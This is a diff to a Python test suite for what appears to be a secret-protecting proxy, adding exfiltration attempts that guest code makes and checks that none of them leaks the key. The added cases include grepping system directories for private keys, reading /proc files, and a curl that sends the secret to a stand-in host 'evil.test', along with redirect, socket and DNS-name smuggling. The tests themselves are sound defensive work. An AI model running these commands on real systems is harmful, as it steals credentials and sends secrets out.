@@ -103,6 +103,9 @@ def vault(t, name=HOST, **how):
         value = given[1] if given else b""
         if path.startswith("/form/"):
             return FORMS[path[6:]](value)
+        if path == "/elsewhere":
+            port = re.search(rb"(?i)\r\nhost: *[^:\r]*:(\d+)", top)[1]
+            return head(b"HTTP/1.1 302 Found", b"Location: https://other.test:%s/" % port)
         if path == "/keep":
             kept["value"] = value
             return whole(b"kept")
@@ -242,6 +245,7 @@ def test_large_answers_pass_whole(t):
 # ---- ways to get it out ----
 
 def test_no_answer_of_its_host_has_the_value(t):
+    assert len(FORMS) >= 40
     with vault(t) as (port, seen):
         code = GUEST + "".join(f"print('## {form}', flush=True)\nattempt(ask, '/form/{form}', X_Key=KEY)\n" for form in FORMS)
         r = run(t, port, code)
@@ -279,10 +283,29 @@ TRIES = {
     "from_other_processes": ("import glob\n[attempt(lambda: print(open(f).read())) for f in glob.glob('/proc/[0-9]*/[ces]*') if os.path.isfile(f)]", "cay-secret-KEY", False),
     "from_a_key_of_the_authority": ("print(open('/etc/ssl/certs/ca-certificates.crt').read()[-2500:]); print(os.popen(\"grep -rl 'PRIVATE KEY' /etc /tmp /home /usr/lib/ssl 2>/dev/null\").read(), 'none')", "CERTIFICATE", False),
     "from_an_error": ("raise SystemExit(KEY)", "", False),
+    "as_a_cookie": ("ask(Cookie='k=' + KEY)", "*" * len(VALUE), True),
+    "many_times": ("ask(X_Key=KEY * 50)", "*" * len(VALUE) * 50, True),
+    "in_two_fields": ("ask(X_Key=KEY[:25], X_Other=KEY[25:])", "cay-secret-KEY", False),
+    "in_base64_of_a_token": ("ask(Authorization='Bearer ' + base64.b64encode(KEY.encode()).decode())", "200", False),
+    "as_a_part": ("ask(X_Key=KEY, Range='bytes=0-3')", "*" * len(VALUE), True),
+    "compressed_on_demand": ("ask('/form/compressed', X_Key=KEY, Accept_Encoding='gzip')", "502 Bad Gateway", True),
+    "by_a_websocket": ("raw(''.join(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n{more}\\r\\n' for more in "
+                       "('Connection: Upgrade\\r\\nUpgrade: websocket\\r\\n', 'Connection: close\\r\\n')).encode())", "*" * len(VALUE), True),
+    "for_no_path": ("raw(f'OPTIONS * HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode())", "*" * len(VALUE), True),
+    "without_tls": ("s = socket.create_connection((HOST, PORT), timeout=60); s.sendall(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\n\\r\\n'.encode()); print('answer', s.recv(100))", "", False),
+    "without_a_server_name": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode(), name=None, verify=False)", "cay-secret-KEY", False),
+    "to_the_address": ("raw(f'GET / HTTP/1.1\\r\\nHost: {HOST}:{PORT}\\r\\nX-Key: {KEY}\\r\\nConnection: close\\r\\n\\r\\n'.encode(), to='192.0.2.2')", "*" * len(VALUE), True),
+    "in_a_name": ("socket.create_connection((KEY[:60] + '.test', PORT), timeout=60)", "", False),
+    "from_the_certificate": ("print(ssl.get_server_certificate((HOST, PORT)))", "CERTIFICATE", False),
+    "in_parts_of_a_form": ("ask('/', 'POST', '--b\\r\\nContent-Disposition: form-data; name=a\\r\\n\\r\\n' + KEY + '\\r\\n--b--\\r\\n', Content_Type='multipart/form-data; boundary=b')", "cay-secret-KEY", False),
+    "behind_a_redirect": ("print(os.popen(f'curl -skL -H \"X-Key: {KEY}\" https://{HOST}:{PORT}/elsewhere').read())", "cay-secret-KEY", True),
+    "by_curl_to_another_host": ("print(os.popen(f'curl -sk -H \"X-Key: {KEY}\" https://evil.test:{PORT}/').read())", "cay-secret-KEY", False),
+    "by_fetch": ("import subprocess; print(subprocess.run(['node', '-e', f'fetch(\"https://{HOST}:{PORT}/\", {{headers: {{\"X-Key\": process.env.KEY}}}}).then((r) => r.text()).then(console.log)'], capture_output=True))", "*" * len(VALUE), True),
 }
 
 
 def test_no_try_of_a_guest_gets_the_value(t):
+    assert len(TRIES) >= 40
     with vault(t) as (port, seen):
         for name, (code, answer, reaches) in TRIES.items():
             del seen[:]
@@ -291,6 +314,7 @@ def test_no_try_of_a_guest_gets_the_value(t):
             assert answer in r.text + r.errors, (name, r)
             assert "PRIVATE KEY-" not in r.text, (name, r)
             assert any(leaks(top + body) for top, body in seen) == reaches, (name, seen, r)
+            assert not any(leaks(top + body) for top, body in seen if f"host: {HOST}:{port}".encode() not in top.lower()), (name, seen)
 
 
 def test_a_server_that_cannot_prove_its_name_gets_nothing(t):
